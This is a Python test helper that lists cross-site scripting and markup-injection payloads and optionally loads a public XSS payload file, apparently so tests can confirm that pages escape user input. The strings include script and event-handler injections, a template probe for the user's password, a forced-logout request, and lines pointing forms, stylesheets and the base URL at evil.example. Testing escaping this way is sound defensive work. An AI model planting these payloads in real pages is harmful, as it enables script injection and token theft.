"""Texts that would be markup or script where a page forgets to escape them."""

from __future__ import annotations

import json
import lzma

from tests.shared import SHARED

OWN = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    '<a href="javascript:alert(1)">x</a>',
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "{{ request.user.password }}{% csrf_token %}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<style>@import'//evil.example'</style>",
    '" autofocus onfocus=alert(1) x="',
    "<form action=//evil.example><input name=csrfmiddlewaretoken>",
    "<div hx-get=/accounts/logout/ hx-trigger=load>",
    "<base href=//evil.example>",
    "‮<b>tpircs</b>",
)


def payloads() -> list[str]:
    """Ours, and the public collection where it lies beside the checkout."""
    path = SHARED / "security" / "xss_payloads.json.xz"
    found = list(OWN)
    if path.exists():
        with lzma.open(path, "rt", encoding="utf-8") as file:
            found += [row["payload"] for row in json.load(file)]
    return found
